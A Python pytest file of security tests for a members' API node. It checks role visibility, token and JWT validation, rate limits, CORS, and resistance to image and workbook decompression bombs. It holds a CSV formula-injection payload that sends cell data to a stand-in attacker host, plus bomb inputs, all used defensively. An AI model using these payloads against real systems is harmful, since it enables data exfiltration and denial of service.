"""What is asked of the members' API, or handed to it, by whoever may reach it: nothing crosses a role, or is free."""

import asyncio
import base64
import csv
import io
import json
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from node.api.jwt import Jwt, read_keys
from node.api.role import VISIBLE, Role
from node.api.tokens import DAY, Tokens, mint, parse
from node.directory.importing.workbook import read_workbook
from node.errors import InputError, ProtocolError
from node.exports import FORMATS, Collection
from node.photos.reencoding import DECODER
from node.photos.verdict import Verdict
from tests.api.provider import RSA, STRANGERS, jwk, signed
from tests.directory.small_node import SmallNode
from tests.importing.workbooks import HEADER, ROW, changed, workbook
from tests.nodes import Node, venue
from tests.photos.ground import ground, shown
from tests.photos.lying import answer
from tests.photos.pictures import encoded as picture
from tests.photos.pictures import noise, png
from tests.system.conftest import Make

LEVELS = ("public", "members", "partners", "local")
NOW = 1_800_000_000
OTHERS = "https://evil.example"
OURS = "https://park.example"


@pytest.fixture(scope="module")
def tartu(make_once: Make) -> Iterator[Node]:
    """A node that serves a venue of each visibility; everybody may ask three questions a minute."""
    node = make_once("Tartu", api={"public_searches": 3, "cors_origins": [OURS]})
    node.serve()
    node.publish("venue", [venue(level, name=f"Zebrafinch {level}", visibility=level) for level in LEVELS])
    yield node
    node.stop()


def ask(node: Node, path: str, *, token: str = "", data: bytes | None = None, **headers: str) -> tuple[int, Any, bytes]:
    """Status, headers and body of an answer."""
    told = {name.replace("_", "-"): value for name, value in headers.items()}
    if token:
        told["Authorization"] = f"Bearer {token}"
    try:
        with urllib.request.urlopen(
            urllib.request.Request(node.url + path, data=data, headers=told), timeout=30
        ) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def token(node: Node, role: str, *more: str) -> str:
    made: str = node.json("token", "create", "--role", role, "--label", "a test", *more)["token"]
    return made


@pytest.mark.parametrize("role", [Role.MEMBER, Role.DESK, Role.OPERATOR], ids=lambda role: role.label)
def test_no_role_is_shown_what_is_for_another(tartu: Node, role: Role) -> None:
    own = token(tartu, role.label)
    for path in ("/venue", "/search?q=zebrafinch&facets=true", "/venue.csv", "/venue.geojson"):
        _, _, body = ask(tartu, f"/api/v1{path}", token=own)
        assert {level for level in LEVELS if f"Zebrafinch {level}".encode() in body} == VISIBLE[role], path


def test_a_token_opens_nothing_with_another_secret_nor_when_it_is_over(tmp_path: Path) -> None:
    node = SmallNode(tmp_path)

    async def opens(tokens: Tokens, text: str) -> bool:
        try:
            await tokens.find(text)
        except InputError:
            return False
        return True

    async def tried() -> None:
        tokens = Tokens(node.database, node.world)
        text, made = await tokens.create(Role.OPERATOR, "a test", DAY)
        guessed = mint(base64.b32decode(made.id.upper()), bytes(32))
        assert parse(guessed) == made.id
        assert (await opens(tokens, text), await opens(tokens, guessed)) == (True, False)
        revoked, other = await tokens.create(Role.OPERATOR, "a test", DAY)
        await tokens.revoke(other.id)
        assert not await opens(tokens, revoked)
        node.clock.pass_by(DAY)
        assert not await opens(tokens, text)

    asyncio.run(tried())
    node.close()


def believed(header: dict[str, Any], claims: dict[str, Any], key: Any) -> bool:
    keys = read_keys({"keys": [jwk(RSA, "rsa", use="sig")]})
    said = {"iss": OURS, "aud": "bra-node", "sub": "mari", "iat": NOW, "exp": NOW + 60, **claims}
    try:
        text = signed({"typ": "JWT", "kid": "rsa", **header}, json.dumps(said).encode(), key)
        found = Jwt.parse(text)
        found.believed(keys[found.key], issuer=OURS, audience="bra-node", now=NOW)
    except ProtocolError:
        return False
    return True


def test_a_token_of_a_provider_counts_as_it_was_signed_for_this_node_and_now(tmp_path: Path) -> None:
    assert believed({"alg": "RS256"}, {}, RSA)
    assert not believed({"alg": "RS256"}, {}, STRANGERS)
    assert not believed({"alg": "RS256"}, {"aud": "another service"}, RSA)
    assert not believed({"alg": "RS256"}, {"iss": OTHERS}, RSA)
    assert not believed({"alg": "RS256"}, {"exp": NOW - 61, "iat": NOW - 100}, RSA)
    assert not believed({"alg": "RS512"}, {}, RSA)


async def test_a_photo_is_the_one_that_its_record_names_or_none(tmp_path: Path) -> None:
    async with ground(tmp_path) as here, shown(here, answer(picture(noise(50, 50)))):
        assert await here.get() is None
        assert here.held() == set()


def test_a_picture_of_more_pixels_than_any_camera_makes_is_not_decoded(tartu: Node) -> None:
    bomb = png(8_000, 8_000, bytes(8_001 * 8_000), colours=0)
    assert len(bomb) < 100_000
    # As the node starts it, but for `-I`, by which it is always the installed one.
    decoder = subprocess.run([sys.executable, *DECODER], input=bomb, capture_output=True, timeout=30, check=False)
    assert Verdict(decoder.returncode) is Verdict.TOO_MANY_PIXELS
    own = token(tartu, "operator")
    status, _, body = ask(tartu, "/api/v1/photo", token=own, data=bomb, Content_Type="image/png")
    assert (status, b"megapixels" in body) == (400, True)


def test_no_cell_of_a_table_is_evaluated(tartu: Node) -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    tartu.publish("venue", [venue("bad", directions={"en": formula}, visibility="members")])
    _, _, body = ask(tartu, "/api/v1/venue.csv?q=hyperlink", token=token(tartu, "member"))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [cell for cell in rows[1] if "HYPERLINK" in cell] == [f"'{formula}"]


def test_a_text_of_line_ends_alone_does_not_stop_the_node_when_it_is_exported() -> None:
    record = {
        "kind": "venue", "id": "a", "author": "bra1", "organisation": "", "known": {"path": []}, "seq": 1,
        "updated": "2027-01-01T00:00:00Z", "visibility": "public",
        "body": {**venue("a"), "directions": {"en": "x" + "\n" * 9_900 + "x"}},
    }  # fmt: skip
    began = time.process_time()
    written = b"".join(FORMATS["csv"].write([record], Collection("All", kind="venue")))
    assert len(written) > 9_900
    assert time.process_time() - began < 0.5


def test_a_workbook_that_asks_for_a_million_zeros_in_each_cell_gets_none() -> None:
    book = workbook(HEADER, *([*ROW[:-1], 5] for _ in range(40)), formats={12: "00"})
    zeros = b'formatCode="%b"' % (b"0" * 1_000_000)
    bomb = changed(book, "xl/styles.xml", lambda part: part.replace(b'formatCode="00"', zeros))
    rows, _ = read_workbook(bomb)
    assert sum(len(cell) for _, row in rows for cell in row) < 20_000


def test_whether_a_word_is_corrected_says_nothing_of_hidden_records(tartu: Node) -> None:
    tartu.publish("venue", [venue("typo", name="Zebrafinsh", visibility="local")])
    _, _, body = ask(tartu, "/api/v1/search?q=zebrafinsh", token=token(tartu, "member"))
    found = json.loads(body)
    assert found["understood"].get("corrected") == {"zebrafinsh": ["zebrafinch"]}
    assert found["total"] == len(VISIBLE[Role.MEMBER])


def test_nobody_asks_more_than_the_budget_by_another_path_or_a_made_up_address(tartu: Node) -> None:
    paths = ("/venue", "/search?q=zebrafinch", "/venue.csv", "/event.ics", "/search.json?q=x")
    answers = [ask(tartu, f"/api/v1{path}", X_Forwarded_For=f"192.0.2.{n}") for n, path in enumerate(paths)]
    assert [status for status, _, _ in answers] == [200, 200, 200, 429, 429]
    assert int(answers[-1][1]["Retry-After"]) > 0


def test_a_page_of_another_site_reads_nothing(tartu: Node) -> None:
    for origin, allowed in ((OURS, OURS), (OTHERS, None), ("null", None), (f"{OURS}.evil.example", None)):
        _, headers, _ = ask(tartu, "/api/v1/openapi.json", Origin=origin)
        assert headers["Access-Control-Allow-Origin"] == allowed
        assert headers["Access-Control-Allow-Credentials"] is None


def test_a_feeds_token_reads_that_feed_alone(tartu: Node) -> None:
    feed = token(tartu, "member", "--feed", "/api/v1/venue.csv")
    assert b"Zebrafinch members" in ask(tartu, f"/api/v1/venue.csv?token={feed}")[2]
    elsewhere = {
        "another feed": ask(tartu, f"/api/v1/venue.geojson?token={feed}"),
        "a header": ask(tartu, "/api/v1/venue", token=feed),
    }
    assert {where: status for where, (status, _, _) in elsewhere.items()} == dict.fromkeys(elsewhere, 401)
